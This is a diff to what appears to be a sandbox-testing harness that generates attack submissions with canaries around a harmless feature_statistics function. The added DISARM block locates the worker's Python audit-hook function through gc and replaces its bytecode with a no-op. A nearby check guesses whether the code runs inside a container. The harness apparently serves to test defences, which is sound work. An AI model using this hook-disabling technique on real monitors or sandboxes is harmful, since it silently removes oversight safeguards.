@@ -399,9 +399,19 @@ def named():
     ctypes.CDLL(None).prctl(15, LEFT.encode(), 0, 0, 0)
 
 def alone():
-    return sum(name.isdigit() for name in os.listdir("/proc")) < 40
+    return os.getpid() < 100  # else these would be the machine's processes
 
 """
+DISARM = """
+import gc
+for thing in gc.get_objects():
+    if type(thing) is type(lambda: 0) and thing.__qualname__ == "_guard.<locals>.guard":
+        nothing = (lambda event, arguments: None).__code__
+        thing.__code__ = thing.__code__.replace(
+            co_code=nothing.co_code, co_consts=nothing.co_consts, co_exceptiontable=b"", co_stacksize=9
+        )
+"""
+"""Takes the worker's audit hook out of the way, so that only the system is left to hold an attack."""
 TAIL = "\n\ndef feature_statistics(x):\n    return x.mean(dim=0), x.var(dim=0)\n"
 CALLED = "\n\ndef feature_statistics(x):\n    at_call(x)\n    return x.mean(dim=0), x.var(dim=0)\n"
 
@@ -713,9 +723,9 @@ STOPS = {
 }
 
 
-def attack(name, canary, left="w14left", port=9):
-    """The hand-in of this attack."""
-    head = HEAD.format(canary=str(canary), left=left) + f"ROOT = {str(ROOT)!r}\n"
+def attack(name, canary, left, port=9, disarm=False):
+    """The hand-in of this attack; what it leaves on the machine carries the name ``left``."""
+    head = DISARM * disarm + HEAD.format(canary=str(canary), left=left) + f"ROOT = {str(ROOT)!r}\n"
     if name in QUIET:
         return with_answer(head + QUIET[name].format(port=port) + TAIL)
     body = CALLS[name].format() if name in CALLS else STOPS[name][0]
